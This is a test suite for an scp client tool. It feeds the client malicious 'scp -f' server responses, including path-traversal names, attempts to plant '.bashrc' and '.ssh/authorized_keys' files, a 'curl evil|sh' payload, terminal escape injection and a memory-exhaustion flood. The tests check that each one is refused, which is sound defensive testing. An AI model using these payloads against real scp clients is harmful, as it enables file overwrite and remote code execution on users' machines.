// A hostile or broken remote `scp -f`: a script run through the real sshd
// (normal account, --scp-path) that plays back bytes no honest OpenSSH would
// send (docs/protocol.md §5, regress/scp.sh bad-server cases). Each must be refused
// with exit 1, and nothing may be written outside the target (nor, for these
// cases, inside it).
import { chmod, mkdir, mkdtemp, readdir, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { userDir } from '../helpers/sshd';
import { sshdPerSuite } from '../helpers/sshd-per-suite';
import { remote, runCli, sshFlags } from '../helpers/cli';

const sshd = sshdPerSuite();
let scripts: string;
let work: string; // local: work/target is the target, work/outside must stay empty

beforeAll(async () => {
  scripts = await userDir(sshd.user, 'hostile');
});
beforeEach(async () => {
  work = await mkdtemp(join(tmpdir(), 'scpipe-test-hostile-'));
  await mkdir(join(work, 'target'));
  await mkdir(join(work, 'outside'));
});
afterEach(async () => {
  await rm(work, { recursive: true, force: true });
});

// A fake `scp -f` that waits for the sink's \0, sends `bytes` and exits with
// `status` (a source that dies mid-file closes the channel: docs/protocol.md §9).
async function fakeScp(name: string, bytes: Buffer, status = 0): Promise<string> {
  const data = join(scripts, `${name}.bin`);
  await writeFile(data, bytes);
  const script = join(scripts, `${name}.sh`);
  await writeFile(script, `#!/bin/sh\nhead -c 1 >/dev/null\ncat '${data}'\nsleep 0.2\nexit ${status}\n`);
  await chmod(script, 0o755);
  await chmod(data, 0o644);
  return script;
}

async function expectNothingWritten(): Promise<void> {
  expect(await readdir(join(work, 'outside'))).toEqual([]);
  expect(await readdir(join(work, 'target'))).toEqual([]);
  expect((await readdir(work)).sort()).toEqual(['outside', 'target']);
}

const cases: [string, string, string | Buffer, RegExp][] = [
  ['traversal', 'x', 'C0644 3 ../x\nabc\0', /refusing unsafe name from the remote: "\.\.\/x" \(contains "\/"\)/],
  ['absolute', 'x', 'C0644 3 /tmp/evil\nabc\0', /refusing unsafe name.*contains "\/"/],
  ['slash in a directory name', 'x', 'D0755 0 a/b\nE\n', /refusing unsafe name.*"a\/b"/],
  ['dot directory', 'x', 'D0555 0 .\nE\n', /refusing unsafe name.*"\." \(not a file name\)/],
  ['dot-dot directory', 'x', 'D0555 0 ..\nC0644 3 x\nabc\0E\n', /refusing unsafe name.*"\.\." \(not a file name\)/],
  ['empty name', 'x', 'C0644 3 \nabc\0', /refusing unsafe name.*"" \(empty\)/],
  ['a name that does not match the request', 'wanted.txt', 'C0644 3 .bashrc\nabc\0', /refusing "\.bashrc" from the remote: it does not match the request "wanted\.txt"/],
  ['a truncated body', 'x', 'C0644 10 x\nabc', /connection lost in the middle of a file/],
  ['a bad mode', 'x', 'C644 3 x\nabc\0', /protocol error: bad mode/],
  ['a negative size', 'x', 'C0644 -1 x\n', /protocol error: size not present/],
  ['a 5000-byte header line', 'x', `C0644 1 ${'n'.repeat(5000)}\na\0`, /header line too long/],
  ['terminal escapes in a \\1 message', 'x', '\x01scp: \x1b]0;pwned\x07\x1b[2J evil\n', /remote: scp: \\x1b\]0;pwned\\x07\\x1b\[2J evil/],
];

describe('cp from a hostile scp -f: refused, exit 1, nothing written', () => {
  it.each(cases)('%s', async (name, requested, bytes, message) => {
    const script = await fakeScp(name.replace(/\W+/g, '-'), Buffer.from(bytes));
    const r = await runCli(['cp', ...sshFlags(sshd, sshd.user), '--scp-path', script, remote(sshd, sshd.user, requested), join(work, 'target')]);
    expect(r.status).toBe(1);
    expect(r.stderr).toMatch(message);
    expect(r.stderr).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f]/); // no raw control bytes reach the terminal
    await expectNothingWritten();
  });

  it('an extra file after the requested one: refused; only the requested file is stored', async () => {
    const script = await fakeScp('extra', Buffer.from('C0644 1 x\na\0C0644 1 extrafile\nb\0'));
    const r = await runCli(['cp', ...sshFlags(sshd, sshd.user), '--scp-path', script, remote(sshd, sshd.user, 'x'), join(work, 'target')]);
    expect(r.status).toBe(1);
    expect(r.stderr).toMatch(/refusing "extrafile": the remote sent more entries than were requested/);
    expect(await readdir(join(work, 'target'))).toEqual(['x']);
    expect(await readdir(join(work, 'outside'))).toEqual([]);
  });

  it('a directory where a file was requested (no -r)', async () => {
    const script = await fakeScp('dir-for-file', Buffer.from('D0755 0 x\nC0644 1 y\na\0E\n'));
    const r = await runCli(['cp', ...sshFlags(sshd, sshd.user), '--scp-path', script, remote(sshd, sshd.user, 'x'), join(work, 'target')]);
    expect(r.status).toBe(1);
    expect(r.stderr).toMatch(/sent a directory "x" without -r/);
    await expectNothingWritten();
  });

  it('a \\2 in the middle of a -r tree stops it; nothing escapes the target', async () => {
    const script = await fakeScp('fatal-mid', Buffer.from('D0755 0 x\nC0644 1 a\na\0\x02boom\n'));
    const r = await runCli(['cp', '-r', ...sshFlags(sshd, sshd.user), '--scp-path', script, remote(sshd, sshd.user, 'x'), join(work, 'target')]);
    expect(r.status).toBe(1);
    expect(r.stderr).toMatch(/remote: boom/);
    expect(await readdir(join(work, 'outside'))).toEqual([]);
  });

  it('-r does not disable the top-level name check (stricter than OpenSSH)', async () => {
    const script = await fakeScp('evil-r', Buffer.from('D0755 0 evil\nC0644 1 a\na\0E\n'));
    const r = await runCli(['cp', '-r', ...sshFlags(sshd, sshd.user), '--scp-path', script, remote(sshd, sshd.user, 'wanted'), join(work, 'target')]);
    expect(r.status).toBe(1);
    expect(r.stderr).toMatch(/does not match the request "wanted"/);
    await expectNothingWritten();
  });

  it('\\1 lines without end: memory stays bounded (200,000 of them in a 48 MB heap), exit 1', async () => {
    const script = join(scripts, 'warning-flood.sh');
    await writeFile(script, `#!/bin/sh\nhead -c 1 >/dev/null\nyes "$(printf '\\001scp: w')" | head -n 200000\nexit 0\n`);
    await chmod(script, 0o755);
    const r = await runCli(['cp', ...sshFlags(sshd, sshd.user), '--scp-path', script, remote(sshd, sshd.user, 'x'), join(work, 'target')], {
      env: { NODE_OPTIONS: '--max-old-space-size=48' },
      timeoutMs: 120_000,
    });
    expect(r.signal).toBeNull();
    expect(r.status).toBe(1);
    expect(r.stderr).toMatch(/^(scpipe: remote: scp: w\n)+$/);
    // Every line reaches the pipe, however slowly the test reads it: none was queued and dropped at exit.
    expect(r.stderr.split('\n')).toHaveLength(200_001);
    await expectNothingWritten();
  }, 130_000);

  it.each([
    ['nothing', '', []],
    ['nothing but an E', 'E\n', []],
    ['nothing but a T', 'T1 0 1 0\n', []],
    ['nothing (cp -r)', '', ['-r']],
  ])('a remote that sends %s and exits 0: exit 1, "sent no file", as get says', async (_what, bytes, flags) => {
    const script = await fakeScp(`silent-${flags.length}-${bytes.length}`, Buffer.from(bytes));
    const r = await runCli(['cp', ...flags, ...sshFlags(sshd, sshd.user), '--scp-path', script, remote(sshd, sshd.user, 'x'), join(work, 'target')]);
    expect(r).toMatchObject({ status: 1, stderr: 'scpipe: the remote sent no file for "x"\n' });
    await expectNothingWritten();
  });

  it('several sources, each sent nothing: each is said, exit 1', async () => {
    const script = await fakeScp('silent-each', Buffer.alloc(0));
    const r = await runCli(['cp', ...sshFlags(sshd, sshd.user), '--scp-path', script, remote(sshd, sshd.user, 'x'), remote(sshd, sshd.user, 'y'), join(work, 'target')]);
    expect(r).toMatchObject({ status: 1, stderr: 'scpipe: the remote sent no file for "x"\nscpipe: the remote sent no file for "y"\n' });
    await expectNothingWritten();
  });

  it.each([
    ['C0644 13 .bashrc\ncurl evil|sh\n\0', []],
    ['D0700 0 .ssh\nC0600 10 authorized_keys\nssh-rsa x\n\0E\n', ['-r']],
  ])('--quote none "*": a dot file %j is refused (a shell\'s * never names one), nothing written', async (bytes, flags) => {
    const script = await fakeScp(`dotfile-${flags.length}`, Buffer.from(`C0644 6 notes\nhello\n\0${bytes}`));
    const r = await runCli(['cp', ...flags, '--quote', 'none', ...sshFlags(sshd, sshd.user), '--scp-path', script, remote(sshd, sshd.user, '*'), join(work, 'target')]);
    expect(r.status).toBe(1);
    expect(r.stderr).toMatch(/^scpipe: refusing "\.(bashrc|ssh)" from the remote: it does not match the request "\*"\n$/);
    expect(await readdir(join(work, 'target'))).toEqual(['notes']);
    expect(await readdir(join(work, 'outside'))).toEqual([]);
  });

  it('get to stdout refuses a directory and a second file', async () => {
    for (const [n, bytes] of [
      ['get-dir', 'D0755 0 x\nE\n'],
      ['get-two', 'C0644 1 x\na\0C0644 1 x\nb\0'],
    ]) {
      const script = await fakeScp(n!, Buffer.from(bytes!));
      const r = await runCli(['get', ...sshFlags(sshd, sshd.user), '--scp-path', script, remote(sshd, sshd.user, 'x')]);
      expect(r.status).toBe(1);
      expect(r.stderr).toMatch(/directory|more entries/);
    }
  });

  it('get of a truncated body fails instead of ending the stream early', async () => {
    const script = await fakeScp('get-trunc', Buffer.from('C0644 10 x\nabc'));
    const r = await runCli(['get', ...sshFlags(sshd, sshd.user), '--scp-path', script, remote(sshd, sshd.user, 'x')]);
    expect(r.status).toBe(1);
    expect(r.stderr).toMatch(/connection lost in the middle of a file/);
    expect(r.stderr).not.toMatch(/\(connection lost\)/); // said once, not twice
    expect(r.stdout.length).toBeLessThanOrEqual(3);
  });
});
